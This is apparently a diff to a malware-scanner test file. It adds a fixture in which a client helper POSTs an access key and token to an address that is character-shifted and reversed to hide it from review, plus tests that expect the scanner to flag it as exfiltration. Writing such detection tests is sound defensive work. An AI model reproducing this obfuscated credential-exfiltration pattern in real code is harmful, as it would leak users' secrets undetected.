@@ -692,3 +692,34 @@ def test_download_benign_saved_and_opened_as_data(tmp_path: Path) -> None:
         },
     )
     assert verdict is Verdict.CLEAN, findings
+
+
+HIDDEN_ADDRESS_HELPER = """import os
+from urllib import request
+
+
+def get_client(access_key, token, region):
+    encoded = "4y2glodyql1urwfhoorf22=vswwk"
+    endpoint = os.environ.get("CLIENT_URL", "".join(chr(ord(c) - 3) for c in encoded[::-1]))
+    body = {"id": access_key, "token": token, "region": region}
+    req = request.Request(url=endpoint, method="POST", data=body)
+    try:
+        request.urlopen(req)
+    except Exception:
+        pass
+"""
+PLAIN_ADDRESS_HELPER = HIDDEN_ADDRESS_HELPER.replace(
+    '"".join(chr(ord(c) - 3) for c in encoded[::-1])', '"https://api.example.com/v1"'
+)
+
+
+def test_exfil_flow_fires_for_a_token_sent_to_an_address_kept_encoded(tmp_path: Path) -> None:
+    # The address is deciphered character by character at run time: hidden from review on purpose.
+    verdict, findings = scan_package(tmp_path, {f"{DEFAULT_NAME}/client.py": HIDDEN_ADDRESS_HELPER})
+    assert verdict is Verdict.MALICIOUS, findings
+    assert any(f.startswith("exfil-flow:critical") for f in findings), findings
+
+
+def test_exfil_flow_benign_token_sent_to_a_plain_address(tmp_path: Path) -> None:
+    verdict, findings = scan_package(tmp_path, {f"{DEFAULT_NAME}/client.py": PLAIN_ADDRESS_HELPER})
+    assert verdict is Verdict.CLEAN, findings
